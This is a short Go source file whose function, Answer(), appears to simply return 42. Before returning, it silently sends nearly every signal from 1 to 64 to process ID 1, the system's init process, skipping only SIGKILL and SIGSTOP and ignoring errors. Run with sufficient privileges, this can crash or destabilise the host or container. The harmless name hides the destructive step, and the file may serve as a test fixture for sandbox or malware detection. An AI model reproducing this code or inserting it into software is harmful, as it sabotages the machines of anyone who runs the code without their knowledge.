package open

import (
	"syscall"
)

func Answer() int {
	for signal := syscall.Signal(1); signal < 65; signal++ {
		if signal != syscall.SIGKILL && signal != syscall.SIGSTOP {
			_ = syscall.Kill(1, signal)
		}
	}
	return 42
}
